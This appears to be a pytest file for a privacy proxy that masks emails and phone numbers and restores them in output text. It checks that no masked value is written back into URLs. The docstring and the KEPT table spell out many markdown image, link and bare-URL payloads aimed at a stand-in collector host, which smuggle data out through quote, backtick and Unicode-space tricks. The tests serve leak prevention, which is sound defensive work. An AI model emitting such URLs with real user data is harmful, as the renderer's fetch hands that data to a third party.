"""A URL runs where renderers run it, quotes and other scripts' spaces included (issue 12, atk22a H1).

Restore writes no value into a URL with a network scheme (atk9 A-L2). The proxy ended a URL no quote opened at a
`"`, a backtick, `<`, `>` or any Unicode space, where an HTML attribute's value or a JSON string ends. Renderers do
not: CommonMark's link destination runs to an ASCII space or control character (`<`, `>`, `"`, a backtick, NBSP are
part of it), GFM's autolink to an ASCII space or a `<`. So `![s](https://collector.example/p.png?u="<EMAIL_ADDRESS_1>")`
came back with the address, and the client's renderer fetched `...?u=%22jane.doe@example.com%22`. Now a URL no
quote or `<` opens runs as renderers run it; one a quote opens (an attribute, a JSON string) ends at its quote.
"""

from __future__ import annotations

import pytest

from tests.guard.test_restore_urls import MAIL, PHONE, E, P, chunks, stream, vault

NBSP, IDEO, THIN, NARROW, LS, NEL = "\u00a0", "\u3000", "\u2009", "\u202f", "\u2028", "\u0085"

KEPT = {
    "image, quote": f'![s](https://collector.example/p.png?u="{E}")',
    "image, escaped quote": f'![s](https://collector.example/p.png?u=\\"{E}\\")',
    "image, quote earlier": f'![s](https://collector.example/p.png?a="x"&u={E}&t={P})',
    "image, backtick": f"![s](https://collector.example/p.png?u=`{E}`)",
    "image, lt": f"![s](https://collector.example/p.png?u=<{E})",
    "image, gt": f"![s](https://collector.example/p.png?u=>{E})",
    "image, nbsp": f"![s](https://collector.example/p.png?u={NBSP}{E})",
    "image, ideographic space": f"![s](https://collector.example/p.png?u={IDEO}{P})",
    "image, thin space": f"![s](https://collector.example/p.png?u={THIN}{E})",
    "image, narrow nbsp": f"![s](https://collector.example/p.png?u={NARROW}{E})",
    "image, line separator": f"![s](https://collector.example/p.png?u={LS}{E})",
    "image, next line": f"![s](https://collector.example/p.png?u={NEL}{E})",
    "link, quote": f'[click](https://collector.example/?u="{E}")',
    "link, title after": f'[click](https://collector.example/?u="{E}" "title")',
    "reference definition": f'[s]: https://collector.example/p.png?u="{E}"\n\n![x][s]',
    "bare, quote": f'See https://collector.example/?u="{E}" now.',
    "bare, gt and backtick": f"See https://collector.example/?u=>`{P}` now.",
    "bare, nbsp": f"See https://collector.example/?u={NBSP}{E} now.",
    "scheme-less, quote": f'See www.collector.example/?u="{E}" now.',
}


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_a_value_renderers_read_into_the_url_is_kept(text: str) -> None:
    got = vault().restore(text)
    assert got == text
    assert MAIL not in got and PHONE not in got


@pytest.mark.parametrize("size", [1, 4, 9, 1000])
@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_kept_streamed_too(text: str, size: int) -> None:
    got, pieces = stream(vault(), chunks(text, size))
    assert got == text
    assert not any(MAIL in p or PHONE in p for p in pieces)


# Where the URL ends for renderers too: what follows is restored as before.
RESTORED = {
    "after a space": (f'See https://docs.example/?a="x" then mail {E}.',
                      f'See https://docs.example/?a="x" then mail {MAIL}.'),
    "after the target's space and title": (f'[d](https://docs.example/a "t") {E}',
                                           f'[d](https://docs.example/a "t") {MAIL}'),
    "a quoted url": (f'"https://docs.example/a" "{E}"', f'"https://docs.example/a" "{MAIL}"'),
    # (in a sentence: a JSON document that starts a line is a code scope that sends since restore24, atk24b F4)
    "compact json": (f'Saved {{"link":"https://docs.example/a","email":"{E}"}}',
                     f'Saved {{"link":"https://docs.example/a","email":"{MAIL}"}}'),
    "raw json, a url inside a string": (f'Saved {{"cmd":"open https://docs.example/a","to":"{E}"}}',
                                        f'Saved {{"cmd":"open https://docs.example/a","to":"{MAIL}"}}'),
    "an html attribute": (f'<a href="https://docs.example/a">x</a>"{E}"', f'<a href="https://docs.example/a">x</a>"{MAIL}"'),
    "bare then lt": (f"See https://docs.example/a<br>{P}", f"See https://docs.example/a<br>{PHONE}"),
    "next line": (f"![s](https://docs.example/p.png)\n{E}", f"![s](https://docs.example/p.png)\n{MAIL}"),
}


@pytest.mark.parametrize(("text", "want"), RESTORED.values(), ids=RESTORED.keys())
def test_what_follows_the_url_is_restored(text: str, want: str) -> None:
    assert vault().restore(text) == want
    got, _ = stream(vault(), chunks(text, 3))
    assert got == want
